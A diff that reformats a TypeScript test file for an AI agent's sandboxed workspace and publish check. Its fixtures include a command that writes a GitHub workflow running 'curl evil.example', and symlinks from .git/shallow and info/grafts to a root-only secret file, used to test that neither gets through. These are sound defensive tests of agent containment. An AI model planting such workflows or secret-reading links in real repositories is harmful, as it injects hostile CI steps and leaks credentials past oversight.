@@ -18,7 +18,8 @@ import { git, makeRemote, removeDir, tempDir } from "../integration/workspace/he
 const support = await detectSandbox();
 const mode: SandboxMode = support.available ? "bwrap" : "off";
 const verify = (change: Parameters<typeof checkPublishedChange>[1]) => checkPublishedChange({}, change);
-const WORKFLOW = "mkdir -p .github/workflows && printf 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl evil.example\\n' > .github/workflows/evil.yml";
+const WORKFLOW =
+  "mkdir -p .github/workflows && printf 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl evil.example\\n' > .github/workflows/evil.yml";
 
 describe("the publish check reads nothing of the agent's .git on the host", () => {
   let base: string;
@@ -31,7 +32,14 @@ describe("the publish check reads nothing of the agent's .git on the host", () =
   let n = 0;
   const prepare = async (repoKey = "github.com/acme/widgets", url?: string): Promise<Workspace> => {
     n += 1;
-    const workspace = await cache.prepare({ jobId: `rt-${n}`, remoteUrl: url ?? remote.remote, repoKey, branch: `tackle/issue-${100 + n}`, startFrom: "base", sandbox: mode });
+    const workspace = await cache.prepare({
+      jobId: `rt-${n}`,
+      remoteUrl: url ?? remote.remote,
+      repoKey,
+      branch: `tackle/issue-${100 + n}`,
+      startFrom: "base",
+      sandbox: mode,
+    });
     open.push(workspace);
     return workspace;
   };
@@ -80,7 +88,11 @@ describe("the publish check reads nothing of the agent's .git on the host", () =
 
   it(".git/shallow and info/grafts linked to a root-only file: nothing of it comes back", async () => {
     const workspace = await prepare();
-    await sh(workspace, ["echo x >> README.md && git commit -qam x", `ln -s ${secretFile} .git/shallow`, `mkdir -p .git/info && ln -s ${secretFile} .git/info/grafts`]);
+    await sh(workspace, [
+      "echo x >> README.md && git commit -qam x",
+      `ln -s ${secretFile} .git/shallow`,
+      `mkdir -p .git/info && ln -s ${secretFile} .git/info/grafts`,
+    ]);
     const ahead = await workspace.commitsAhead();
     const result = await pushOf(workspace);
     const said = `${ahead} ${result instanceof Error ? result.message : JSON.stringify(result)}`;
